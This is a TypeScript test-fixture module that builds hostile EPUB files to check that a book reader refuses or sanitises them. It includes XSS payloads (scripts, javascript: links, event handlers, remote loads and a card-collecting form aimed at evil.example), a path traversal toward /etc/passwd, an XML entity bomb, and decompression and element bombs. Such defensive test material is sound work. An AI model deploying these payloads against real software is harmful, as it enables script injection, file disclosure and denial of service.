import { drawBlank, drawPage } from '../drawn-pictures.ts';
import { type EpubItemSpec, type EpubSpec, writeEpub, writeXhtml, writeZip, type ZipFileSpec } from '../writers.ts';
import type { HostileFile } from './hostile-file.ts';
import { refused } from './hostile-file.ts';

const XHTML = 'application/xhtml+xml';

function chapter(body: string, head = ''): EpubItemSpec {
  return {
    href: 'c1.xhtml',
    mediaType: XHTML,
    spine: true,
    toc: 'One',
    data: writeXhtml({ title: 'One', language: 'en', body, head }),
  };
}

function epub(items: readonly EpubItemSpec[], overrides: EpubSpec['overrides'] = {}, metadata = ''): Buffer {
  return writeEpub({ title: 'A Hostile Book', language: 'en', items, overrides, metadata });
}

const CONTAINER_OUTSIDE =
  '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>' +
  '<rootfile full-path="../../../../etc/passwd" media-type="application/oebps-package+xml"/></rootfiles></container>';

function encrypted(algorithm: string, uri: string): ZipFileSpec {
  return {
    name: 'META-INF/encryption.xml',
    data: `<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#"><EncryptionMethod Algorithm="${algorithm}"/><CipherData><CipherReference URI="${uri}"/></CipherData></EncryptedData></encryption>`,
  };
}

function deepNavigation(levels: number): string {
  const open = '<ol><li><a href="c1.xhtml">x</a>'.repeat(levels);
  const close = '</li></ol>'.repeat(levels);
  return writeXhtml({ title: 'n', language: 'en', body: `<nav epub:type="toc">${open}${close}</nav>` });
}

/** One file of many headings, and a table of contents with a line for each. */
function anchoredChapters(count: number): Buffer {
  const anchors = Array.from({ length: count }, (_, index) => `<h2 id="h${index}">x</h2><p>y</p>`);
  const lines = anchors.map((_, index) => `<li><a href="c1.xhtml#h${index}">T${index}</a></li>`);
  const body = `<nav epub:type="toc"><ol>${lines.join('')}</ol></nav>`;
  return epub([chapter(anchors.join(''))], { nav: writeXhtml({ title: 'n', language: 'en', body }) });
}

/** Everything that could run or make a request, one line each. */
export const ACTIVE_CONTENT = [
  '<p id="kept">No script has been executed.</p>',
  '<script>document.getElementById("kept").textContent = "executed"</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<p onclick="alert(1)" onmouseover="alert(2)" style="background:url(https://evil.example/bg.png)">handlers</p>',
  '<a href="javascript:alert(3)">a script link</a> <a href="JaVa&#9;Script:alert(4)">another</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">outside</a> <a href="data:text/html,x">data</a>',
  '<img src="https://evil.example/pixel.gif" alt="remote picture"/><img src="//evil.example/p.gif" alt=""/>',
  '<img src="x" onerror="alert(5)" srcset="https://evil.example/2x.png 2x" alt="broken picture"/>',
  '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o.swf"><param name="a" value="b"/></object>',
  '<embed src="https://evil.example/e.swf"/><audio src="https://evil.example/a.mp3"></audio><video poster="https://evil.example/p.jpg"><source src="https://evil.example/v.mp4"/></video>',
  '<form action="https://evil.example/f"><input name="card"/><button formaction="javascript:alert(6)">send</button></form>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)"><script>alert(8)</script><a xlink:href="javascript:alert(9)"><text>drawn words</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(10)">x</mi></math><style>@import "https://evil.example/s.css"; p { background: url(https://evil.example/q.png) }</style>',
  '<link rel="stylesheet" href="https://evil.example/l.css"/><base href="https://evil.example/"/><meta http-equiv="refresh" content="0;url=https://evil.example/"/>',
  '<p title="&quot;&gt;&lt;script&gt;alert(11)&lt;/script&gt;" lang="&quot;&gt;&lt;img src=x onerror=alert(12)&gt;">quotes</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(13)>">n</p></noscript><template><img src="x" onerror="alert(14)"/></template>',
  '<p>1 &lt; 2 &amp; 3 &gt; 2</p>',
].join('\n');

async function leakingReference(): Promise<Buffer> {
  const picture = await drawPage(3, { widthPx: 300, heightPx: 400 }).jpeg().toBuffer();
  return epub([chapter('<p>A monastery.</p><img src="../../../../media/m.jpg" alt="monastery"/>')], {
    extra: [{ name: 'media/m.jpg', data: picture, store: true }],
  });
}

async function drawingInSpine(): Promise<Buffer> {
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 200"><script>alert(1)</script><circle cx="9" cy="9" r="5"/><text>Words in a drawing</text></svg>';
  return epub([{ href: 'c1.svg', data: svg, mediaType: 'image/svg+xml', properties: 'scripted', spine: true }]);
}

async function bombInText(): Promise<Buffer> {
  const bomb = await drawBlank({ widthPx: 5_200, heightPx: 5_200 }).webp({ lossless: true, effort: 0 }).toBuffer();
  return epub([
    { href: 'bomb.webp', data: bomb, mediaType: 'image/webp' },
    chapter('<p>Some words before the picture, and a few more after them.</p><img src="bomb.webp" alt="a bomb"/>'),
  ]);
}

export const HOSTILE_EPUBS: readonly HostileFile[] = [
  {
    name: 'epub-drm.epub',
    what: 'a chapter is encrypted',
    expected: refused('EPUB_ENCRYPTED'),
    build: async () =>
      epub([chapter('<p>x</p>')], {
        extra: [encrypted('http://www.w3.org/2001/04/xmlenc#aes128-cbc', 'EPUB/c1.xhtml')],
      }),
  },
  {
    name: 'epub-obfuscated-font.epub',
    what: 'only a font is obfuscated',
    expected: { pages: 1 },
    build: async () =>
      epub([chapter('<p>x</p>')], { extra: [encrypted('http://www.idpf.org/2008/embedding', 'EPUB/f.otf')] }),
  },
  {
    name: 'epub-no-container.epub',
    what: 'container.xml is missing',
    expected: refused('EPUB_BROKEN'),
    build: async () => epub([chapter('<p>x</p>')], { container: null }),
  },
  {
    name: 'epub-opf-traversal.epub',
    what: 'container.xml points outside',
    expected: refused('EPUB_BROKEN'),
    build: async () => epub([chapter('<p>x</p>')], { container: CONTAINER_OUTSIDE }),
  },
  {
    name: 'epub-wrong-mimetype.epub',
    what: 'mimetype says ZIP',
    expected: { pages: 1 },
    build: async () => epub([chapter('<p>x</p>')], { mimetype: 'application/zip' }),
  },
  {
    name: 'epub-no-mimetype.epub',
    what: 'mimetype is missing',
    expected: { pages: 1 },
    build: async () => epub([chapter('<p>x</p>')], { mimetype: null }),
  },
  {
    name: 'epub-zip-as-epub.epub',
    what: 'a comic’s ZIP under an EPUB’s name',
    expected: { pages: 1 },
    build: async () => writeZip([{ name: '001.jpg', data: await drawPage(1).jpeg().toBuffer() }]),
  },
  {
    name: 'epub-loops.epub',
    isBomb: true,
    what: 'fallbacks in a circle, a table of contents 3,000 levels deep',
    expected: { pages: 1 },
    build: async () =>
      epub(
        [
          chapter('<p>x</p>'),
          { href: 'a.x', data: 'a', mediaType: 'a/b', fallback: 'item3', spine: true },
          { href: 'b.x', data: 'b', mediaType: 'a/b', fallback: 'item2', spine: true },
        ],
        { nav: deepNavigation(3_000) },
      ),
  },
  {
    name: 'epub-leaking-reference.epub',
    what: 'references that climb above the root',
    expected: { pages: 1 },
    build: leakingReference,
  },
  {
    name: 'epub-drawing-in-spine.epub',
    what: 'a scripted drawing in the reading order',
    expected: { pages: 1 },
    build: drawingInSpine,
  },
  {
    name: 'epub-active-content.epub',
    what: 'scripts, frames, forms, remote everything',
    expected: { pages: 1 },
    build: async () => epub([chapter(ACTIVE_CONTENT)]),
  },
  {
    name: 'epub-bomb-in-text.epub',
    isBomb: true,
    what: 'a picture of 27 million pixels in a chapter',
    expected: { pages: 1 },
    build: bombInText,
  },
  {
    name: 'epub-deep-chapter.epub',
    isBomb: true,
    what: 'a chapter 40,000 elements deep',
    expected: refused('TEXT_TOO_LARGE'),
    build: async () => epub([chapter(`${'<div>'.repeat(40_000)}<p>x</p>${'</div>'.repeat(40_000)}`)]),
  },
  {
    name: 'epub-wide-chapter.epub',
    isBomb: true,
    what: 'a chapter of 250,000 elements',
    expected: refused('TEXT_TOO_LARGE'),
    build: async () =>
      epub([chapter(`<p>${Array.from({ length: 250_000 }, (_, index) => `<b/>${index}`).join('')}</p>`)]),
  },
  {
    name: 'epub-repeated-words.epub',
    isBomb: true,
    what: 'eight chapters of 3 MiB in a few kB',
    expected: refused('ARCHIVE_BOMB', 'TEXT_TOO_LARGE'),
    build: async () =>
      epub(
        Array.from({ length: 8 }, (_, index) => ({
          ...chapter(`<p>${'words '.repeat(500_000)}</p>`),
          href: `c${index}.xhtml`,
        })),
      ),
  },
  {
    name: 'epub-many-short-chapters.epub',
    isBomb: true,
    what: 'forty chapters, each of 400 kB in 1 kB',
    expected: refused('TEXT_TOO_LARGE'),
    build: async () =>
      epub(
        Array.from({ length: 40 }, (_, index) => ({ ...chapter('<p>x</p>'.repeat(50_000)), href: `c${index}.xhtml` })),
      ),
  },
  {
    name: 'epub-many-anchors.epub',
    isBomb: true,
    what: 'a table of contents with 3,000 lines into one small file',
    expected: refused('TEXT_TOO_LARGE'),
    build: async () => anchoredChapters(3_000),
  },
  {
    name: 'epub-as-many-anchors-as-allowed.epub',
    isBomb: true,
    what: 'a table of contents with 500 lines into one small file',
    expected: { pages: 500 },
    build: async () => anchoredChapters(500),
  },
  {
    name: 'epub-large-chapter.epub',
    isBomb: true,
    what: 'a chapter of 60 MiB',
    expected: refused('ENTRY_TOO_LARGE'),
    build: async () => epub([chapter(`<p>${'words '.repeat(10_000_000)}</p>`)]),
  },
  {
    name: 'epub-laughs.epub',
    isBomb: true,
    what: 'entities that multiply in the package document',
    expected: refused('UNSAFE_XML'),
    build: async () =>
      writeZip([
        { name: 'mimetype', data: 'application/epub+zip', store: true },
        {
          name: 'META-INF/container.xml',
          data: '<!DOCTYPE c [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><container>&b;</container>',
        },
      ]),
  },
  {
    name: 'epub-nothing-to-read.epub',
    what: 'an empty reading order',
    expected: refused('NO_PAGES'),
    build: async () => epub([]),
  },
];
